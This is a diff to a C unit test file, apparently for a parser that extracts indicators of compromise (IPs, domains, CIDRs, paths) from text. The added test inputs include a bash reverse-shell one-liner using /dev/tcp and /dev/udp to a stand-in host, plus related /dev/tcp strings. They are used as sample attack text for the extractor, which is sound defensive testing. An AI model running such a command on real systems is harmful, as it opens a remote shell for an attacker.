@@ -160,6 +160,11 @@ static void test_addresses(void **state)
 	    {"45.33.1.2/999 45.33.1.2:443/tcp 45.33.1.2/tcp.",
 		"ipv4 45.33.1.2"},
 	    {"45.33.1.2:81/33", "url 45.33.1.2:81/33"},
+	    {"bash -i >& /dev/tcp/45.33.1.2/443; exec 5<>/dev/udp/bad.com/53",
+		"ipv4 45.33.1.2 | domain bad.com"},
+	    {"/dev/tcp/$IP/443", "filepath /dev/tcp/$IP/443"},
+	    {"IPv6:2001:470::9 std::a::b1 boost::asio::f0a::1",
+		"ipv6 2001:470::9"},
 	    {"45.33.1.2-45.33.1.9", "ipv4 45.33.1.2 | ipv4 45.33.1.9"},
 	    {"45.33.0.0/16", "cidr 45.33.0.0/16"},
 	    {"45.33.0[.]0[/]16", "cidr 45.33.0.0/16"},
@@ -602,7 +607,8 @@ static void test_hostile(void **state)
 	    "<wbr>", "malicious packages:\n- aa\n", "popular npm package ",
 	    "C2:\n- a[.]com\n", "a,", "|", "0", "a at ", "a.com。co", "1.2。3",
 	    "a[.]com.A ", "1.2.3.4=", "=1.2.3.4/a", "=1.2.3.4:1/tcp", "資",
-	    "http://a.com/資_", "資/", "C:\\資"};
+	    "http://a.com/資_", "資/", "C:\\資", "&#46;", "a&#46;", "a:", "：",
+	    "/dev/tcp/a.com"};
 	enum { LITTLE = 1000000, MUCH = 4 * LITTLE };
 	size_t i;
 
